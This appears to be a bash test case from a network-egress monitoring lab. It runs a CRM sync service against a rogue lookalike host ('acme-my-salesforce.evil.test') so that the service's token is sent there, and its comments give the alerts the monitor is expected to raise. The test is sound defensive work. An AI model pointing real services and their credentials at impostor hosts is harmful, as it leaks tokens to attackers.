#!/bin/bash
# title: sync service pointed at a rogue host posing as the CRM (its token goes along)
# expect-monitor: unexpected_egress token_misuse
# expect-enforce: unexpected_egress
# block: zero
# target: rogue
source "$(dirname "$0")/../lib.sh"
in_cgroup crm-sync $PY "$LAB_DIR/bin/crm_sync.py" --crm acme-my-salesforce.evil.test 2>&1 | grep -v "^  "
